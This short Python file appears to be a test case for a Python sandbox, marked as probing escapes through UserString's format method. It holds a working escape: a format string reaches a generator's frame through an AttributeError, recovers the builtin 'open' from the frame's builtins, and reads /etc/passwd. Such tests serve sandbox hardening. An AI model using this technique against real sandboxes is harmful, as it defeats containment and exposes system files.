# tries: UserString's format
# class: formatting
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import collections

try:
    collections.UserString("{0.gi_frame.nothing}").format((x for x in ()))
except AttributeError as error:
    use(pick(error.obj))
